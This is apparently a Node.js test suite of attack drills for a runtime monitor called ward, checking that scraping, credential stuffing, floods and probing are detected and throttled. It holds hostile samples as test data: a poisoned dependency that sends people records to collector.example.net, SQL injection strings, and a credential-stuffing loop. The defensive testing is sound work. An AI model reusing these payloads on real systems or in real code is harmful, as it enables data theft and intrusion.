// Drills: each an attack or an accident on the real program, seen within ten seconds, acted on, and told in words.
import assert from "node:assert/strict";
import http from "node:http";
import { readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { after, before, test } from "node:test";
import { Served, assertProblem, copyApp, sleep, until } from "./lib.mjs";

const ORDINARY_S = 14;
const PASSWORD = "nine lives and a harbour";
let app, dir;
const cookies = [];

// A request from one of the loopback addresses: to ward each is a place of its own.
const from = (place, method, pathname, body, headers = {}) =>
	new Promise((resolve, reject) => {
		const text = body === undefined ? undefined : JSON.stringify(body);
		const request = http.request({ host: "127.0.0.1", port: app.port, localAddress: place, method, path: pathname, agent: false,
			headers: { ...(text ? { "content-type": "application/json", "content-length": Buffer.byteLength(text) } : {}), ...headers } },
		(answer) => {
			let got = "";
			answer.on("data", (d) => (got += d));
			answer.on("end", () => resolve({ status: answer.statusCode, headers: answer.headers, text: got }));
		});
		request.on("error", reject);
		request.end(text);
	});

const api = async (name) => {
	const answer = await app.call("GET", `/_ward/api/${name}`);
	assert.equal(answer.status, 200, answer.text);
	return answer.body;
};
const post = (name, body) => app.call("POST", `/_ward/api/${name}`, body);
const live = async (kind, name) => (await api("incidents")).incidents.find((i) => i.kind === kind && i.function === name);
const acting = async (kind, name) => {
	const i = await live(kind, name);
	return i?.state === "acting" ? i : null;
};
// Within ten seconds of the first sign, in words that name the function and say what to look at.
const seen = async (kind, name, began, words) => {
	const i = await until(`an incident ${kind} of ${name}`, 10_000, () => acting(kind, name));
	assert.ok(i.acted_ms - began < 10_000, `${i.acted_ms - began} ms`);
	assert.match(i.words, words);
	assert.ok(i.words.startsWith(`Function ${name}, `), i.words);
	assert.ok(i.advice.length > 20 && i.timeline.some((s) => s.what === "acting") && i.evidence.length > 0, JSON.stringify(i));
	return i;
};
const actionOf = async (incident) => (await api("actions")).actions.find((a) => a.incident === incident);
const release = async (incident) => assert.equal((await post(`incidents/${incident}/release`, {})).status, 200);

// What ordinary traffic looks like, until everything has been learned.
const ordinary = async () => {
	const end = Date.now() + 1000 * ORDINARY_S;
	for (let n = 0; Date.now() < end; n++) {
		await Promise.all([
			...cookies.map((cookie) => app.call("GET", "/page", undefined, { cookie })),
			app.call("POST", "/greet", { name: "Ada" }),
			app.call("POST", "/work", { rounds: 1 }), app.call("POST", "/work", { rounds: 2 }),
			app.call("POST", "/collect", { kept: 10 }), app.call("POST", "/collect", { kept: 20 }),
			app.call("POST", "/report", { rows: 3 }), app.call("POST", "/report", { rows: 4 }),
			app.call("POST", "/busy", { n }), app.call("POST", "/typed", { count: 1 }),
			app.call("POST", "/_ward/auth/sign-in", { email: "nobody@example.org", password: "" }),
		]);
		await sleep(60);
	}
};
let beating = true, beats;
// Whoever is told outside: the hook of the operators, and a collector.
const told = [];
const outside = http.createServer((request, answer) => {
	let text = "";
	request.on("data", (d) => (text += d));
	request.on("end", () => {
		told.push({ path: request.url, type: request.headers["content-type"], body: JSON.parse(text) });
		answer.end("{}");
	});
});

before(async () => {
	dir = copyApp("tests/scenario/apps/watched");
	await new Promise((done) => outside.listen(0, "127.0.0.1", done));
	const manifest = path.join(dir, "ward.yaml");
	writeFileSync(manifest, readFileSync(manifest, "utf8").replaceAll("port: 9,", `port: ${outside.address().port},`));
	app = await Served.start(dir, { command: "dev" });
	beats = (async () => {
		while (beating) {
			await app.call("POST", "/beat");
			await sleep(500);
		}
	})();
	for (const name of ["ada", "bob", "eve", "fay", "gus", "hal"]) {
		const answer = await app.call("POST", "/_ward/auth/sign-up", { email: `${name}@example.org`, password: PASSWORD });
		assert.equal(answer.status, 200, answer.text);
		cookies.push(answer.headers.get("set-cookie").split(";")[0]);
	}
	await ordinary();
});
after(async () => {
	beating = false;
	await beats;
	await app.stop();
	outside.close();
	outside.closeAllConnections();
});

test("ordinary traffic is no incident, and everything has been learned", async () => {
	assert.deepEqual((await api("incidents")).incidents.filter((i) => i.action !== "record"), []);
	const learning = (await api("functions")).functions.filter((f) => f.learning).map((f) => f.name);
	assert.deepEqual(learning, []);
});

test("scraping: one account reads page after page; it is throttled, the others are not", async () => {
	const began = Date.now();
	const eve = { cookie: cookies[2] };
	await Promise.all(Array.from({ length: 3 }, async () => {
		for (let n = 0; Date.now() - began < 9000 && !(n % 10 === 9 && (await live("caller_rate", "page"))); n++)
			await app.call("GET", "/page", undefined, eve);
	}));
	const i = await seen("caller_rate", "page", began, /One caller made \d+ calls in 2 seconds; no caller made more than \d+ before\. .*throttled/);
	assert.deepEqual([i.action, i.subject.kind], ["throttle", "caller"]);
	// A tenth of what came in the last minute still passes, at once if need be.
	const refused = [];
	for (let n = 0; n < 600 && refused.length <= 20; n++) {
		const answer = await app.call("GET", "/page", undefined, eve);
		if (answer.status === 429) refused.push(answer);
	}
	assert.ok(refused.length > 20, `${refused.length} refused`);
	assertProblem(refused[0], 429);
	assert.ok(Number(refused[0].headers.get("retry-after")) > 0);
	// So many calls may be a flood on the function too, which has a rule of its own; this one is about the caller alone.
	const flood = await live("flood", "page");
	if (flood) await release(flood.id);
	assert.equal((await actionOf(i.id)).caller, i.subject.id);
	await until("another account is served", 2000, async () => (await app.call("GET", "/page", undefined, { cookie: cookies[0] })).status === 200);
	await release(i.id);
	assert.equal(await actionOf(i.id), undefined);
	await until("the account is served again", 2000, async () => (await app.call("GET", "/page", undefined, eve)).status === 200);
});

test("credential stuffing: a dozen addresses, many accounts; sign-in asks for a proof of work", async () => {
	let stop = false, began = 0;
	const refused = [];
	const lanes = Array.from({ length: 12 }, async (_, lane) => {
		for (let n = 0; !stop; n++) {
			const { status } = await from(`127.0.${1 + (lane % 6)}.${2 + (n % 2)}`, "POST", "/_ward/auth/sign-in", { email: `user${lane}-${n}@example.org`, password: "a guess that is wrong" });
			if (status === 401) refused.push(Date.now());
			// A password takes its time by design, on a busy machine a lot: an attack begins when there are some in two seconds.
			if (!began && refused.at(-6) > Date.now() - 2000) began = Date.now();
		}
	});
	try {
		await until("the incident", 60_000, () => acting("auth_failures", "ward:sign-in"));
	} finally {
		stop = true;
		await Promise.all(lanes);
	}
	const i = await seen("auth_failures", "ward:sign-in", began || Date.now(), /sign-ins were refused in 2 seconds.*prove themselves/);
	assert.equal(i.action, "challenge");
	const answer = await app.call("POST", "/_ward/auth/sign-in", { email: "ada@example.org", password: PASSWORD });
	assert.equal(answer.body.type, "proof-needed", answer.text);
	assert.ok(answer.body.challenge.length > 10 && answer.body.bits > 8);
	assert.equal((await app.call("GET", "/page", undefined, { cookie: cookies[0] })).status, 200, "who is signed in goes on");
	await release(i.id);
});

test("a poisoned dependency: the release that reads another query and calls a new host is told of at once", async () => {
	const file = path.join(dir, "functions/dependency.ts");
	const clean = readFileSync(file, "utf8");
	writeFileSync(file, `import { db } from "ward";
const call = (globalThis as unknown as { __ward_host: { call(verb: string, name: string, argument: unknown): Promise<unknown> } }).__ward_host.call;
export async function polish(text: string): Promise<string> {
	const people = await db.readPeople();
	try {
		await call("http", "collector.example.net", { method: "POST", path: "/", body: JSON.stringify(people) });
	} catch {}
	return text.trim();
}
`);
	const version = (await api("functions/greet")).version;
	await until("the release", 60_000, async () => {
		assert.equal((await app.call("POST", "/greet", { name: "Ada" })).status, 200);
		await sleep(100);
		return (await api("functions/greet")).version !== version;
	});
	const began = Date.now();
	await app.call("POST", "/greet", { name: "Ada" });
	const first = await seen("first_use", "greet", began, /It used query ReadPeople for the first time/);
	const denied = await seen("denial", "greet", began, /does not grant; the broker refused/);
	assert.match(denied.newest, /collector\.example\.net/);
	assert.deepEqual([first.exact, denied.exact, denied.action], [true, true, "alert"]);
	const request = await api(`requests/${denied.evidence[0].request}`);
	assert.deepEqual(request.calls.slice(0, 2).map(({ kind, name }) => ({ kind, name })), [{ kind: "query", name: "ListItems" }, { kind: "query", name: "ReadPeople" }]);
	assert.ok(request.incidents.includes(denied.id));
	// What an operator then does.
	const made = await post("actions", { action: "quarantine", function: "greet", minutes: 10, why: "its dependency is poisoned" });
	assert.equal(made.status, 201, made.text);
	const answer = await until("the quarantine", 2000, async () => {
		const a = await app.call("POST", "/greet", { name: "Ada" });
		return a.status === 503 && a;
	});
	assert.equal(answer.body.type, "urn:ward:problem:quarantined");
	assert.ok(Number(answer.headers.get("retry-after")) > 500);
	assert.equal((await app.call("POST", "/busy", { n: 1 })).status, 200);
	writeFileSync(file, clean);
	assert.equal((await post(`actions/${made.body.id}/release`, {})).status, 200);
	// And the clean release has come before the next drill: what it changes is no part of that one.
	await until("the clean release serves", 60_000, async () =>
		(await app.call("POST", "/greet", { name: "Ada" })).status === 200 && (await api("functions/greet")).version === version);
	await until("the poisoned one is gone", 15_000, () => app.entries("worker_killed").filter((e) => e.function === "greet").length === 2);
});

test("a slow leak of memory: each call keeps a little more", async () => {
	const began = Date.now();
	for (let kept = 2000; kept < 9000 && !(await live("memory", "collect")); kept += 1000)
		for (let n = 0; n < 12; n++) await app.call("POST", "/collect", { kept });
	const i = await seen("memory", "collect", began, /needed [\d.]+ KiB of memory; [\d.]+ was the most before.*It grows/);
	assert.equal(i.action, "alert");
});

test("a mining loop: a call suddenly computes far longer", async () => {
	const began = Date.now();
	for (let n = 0; n < 40 && !(await live("cpu", "work")); n++) await app.call("POST", "/work", { rounds: 400 });
	await seen("cpu", "work", began, /took [\d.e+]+ us of CPU on average.*mining loop/);
});

test("a flood on one function: it is throttled as its rule says, the others are served", async () => {
	const began = Date.now();
	let stop = false;
	const lanes = Array.from({ length: 16 }, async () => {
		while (!stop) await app.call("POST", "/busy", { n: 1 });
	});
	try {
		const i = await seen("flood", "busy", began, /It was called \d+ times in 2 seconds/);
		assert.equal(i.action, "throttle");
		await until("callers are refused", 3000, async () => (await app.call("POST", "/busy", { n: 1 })).status === 429);
		assert.equal((await app.call("POST", "/typed", { count: 1 })).status, 200);
		stop = true;
		await Promise.all(lanes);
		await release(i.id);
	} finally {
		stop = true;
	}
});

test("responses grow: more leaves than ever did; the function is quarantined as its rule says", async () => {
	const began = Date.now();
	for (let n = 0; n < 60 && !(await live("response_size", "report")); n++) await app.call("POST", "/report", { rows: 2000 });
	const i = await seen("response_size", "report", began, /Responses were [\d.e+]+ bytes on average.*quarantined/);
	const answer = await until("the quarantine", 2000, async () => {
		const a = await app.call("POST", "/report", { rows: 3 });
		return a.status === 503 && a;
	});
	assert.equal(answer.body.type, "urn:ward:problem:quarantined");
	const action = await actionOf(i.id);
	assert.deepEqual([action.action, action.function, action.by, action.why], ["quarantine", "report", "rule", "response_size"]);
	await release(i.id);
	await until("it serves again", 2000, async () => (await app.call("POST", "/report", { rows: 3 })).status === 200);
	assert.equal((await api(`incidents/${i.id}`)).timeline.at(-1).by, "operator");
});

test("errors are grouped by their stack, whatever numbers are in them", async () => {
	// Each from a place of its own: one that tries so often is throttled, as below, and after how many is the monitor's affair.
	const tries = 12;
	for (let n = 0; n < tries; n++) {
		const answer = await from(`127.0.8.${1 + n}`, "POST", "/typed", { count: 7000 + n });
		assert.equal(answer.status, 500, answer.text);
	}
	// What was thrown comes by the supervisor, what became of the request by the gateway, each in its own time.
	const error = await until("all that was thrown, in one group", 10_000, async () => {
		const { errors } = await api("functions/typed/errors");
		assert.ok(errors.length <= 1, JSON.stringify(errors));
		return errors.find((e) => e.count >= tries);
	});
	assert.equal(error.count, tries);
	assert.match(error.message, /no room for 7011/);
	assert.match(error.stack[0], /typed \(functions\/typed\.ts:\d+/);
	const request = await until("its request", 10_000, async () => {
		const answer = await app.call("GET", `/_ward/api/requests/${error.request}`);
		return answer.status === 200 && answer.body;
	});
	assert.deepEqual([request.error, request.outcome], [error.id, "exception"]);
});

test("probing by errors: the address that tries is throttled, another is not", async () => {
	const began = Date.now();
	let refused = 0;
	for (let n = 0; n < 60; n++) await from("127.0.0.66", "POST", "/typed", n % 2 ? { count: "1 OR 1=1" } : { count: 5000 + n });
	const i = await seen("probing", "typed", began, /One address had \d+ requests refused/);
	assert.deepEqual([i.action, i.subject.kind], ["throttle", "address"]);
	await until("more than ten refusals", 10_000, async () => {
		const { status } = await from("127.0.0.66", "POST", "/typed", { count: 1 });
		assert.ok(status === 200 || status === 429, `${status}`);
		return (refused += status === 429) > 10;
	});
	assert.equal((await from("127.0.0.67", "POST", "/typed", { count: 1 })).status, 200);
	const ban = await post("actions", { action: "ban", address: i.subject.id, minutes: 5 });
	assert.equal(ban.status, 201, ban.text);
	await until("the ban", 2000, async () => (await from("127.0.0.66", "GET", "/nothing")).status === 403);
	assert.equal((await from("127.0.0.67", "GET", "/nothing")).status, 404);
});

test("an injection in free text is told of with its field, and is no reason to refuse", async () => {
	const answer = await app.call("POST", "/typed", { count: 1, note: "x' UNION SELECT email, password FROM users -- " });
	assert.equal(answer.status, 200);
	const i = await until("the record", 5000, () => live("payload", "typed"));
	assert.equal(i.action, "record");
	const request = await api(`requests/${i.evidence[0].request}`);
	assert.deepEqual(request.payload, { class: "sqli", field: "note" });
});

test("silence: what should run every few seconds has stopped", async () => {
	beating = false;
	await beats;
	const began = Date.now();
	const i = await seen("silence", "beat", began, /It was not called for \d+ seconds although about \d+ calls were due/);
	assert.equal(i.action, "alert");
});

test("each incident was told outside once when it was acted on, and once when it was over", async () => {
	const hooks = () => told.filter((t) => t.path === "/hook");
	const { incidents } = await api("incidents?state=all");
	const worth = incidents.filter((i) => i.acted_ms > 0);
	assert.ok(worth.length >= 8, `${worth.length} incidents`);
	await until("all messages", 5000, () => worth.every((i) => hooks().some((t) => t.body.incident.id === i.id)));
	for (const i of worth) {
		const events = hooks().filter((t) => t.body.incident.id === i.id);
		assert.deepEqual(events.map((t) => t.body.event), i.state === "closed" ? ["acting", "over"] : ["acting"], i.kind);
		assert.equal(events[0].type, "application/json");
		assert.ok(events[0].body.app === "watched" && events[0].body.text.startsWith(`Function ${i.function}, `));
	}
	assert.equal(hooks().filter((t) => t.body.incident.kind === "payload").length, 0, "what is only recorded is told to nobody");
});

test("a collector gets metrics and the traces of what failed", async () => {
	const of = (name) => told.filter((t) => t.path === `/collect/v1/${name}`).map((t) => t.body);
	await until("an export", 15_000, () => of("metrics").length && of("traces").length);
	const spans = of("traces").flatMap((b) => b.resourceSpans.flatMap((r) => r.scopeSpans.flatMap((s) => s.spans)));
	assert.ok(spans.length > 0 && spans.every((s) => /^[0-9a-f]{32}$/.test(s.traceId)));
	assert.ok(JSON.stringify(of("metrics").at(-1)).includes("greet"));
});
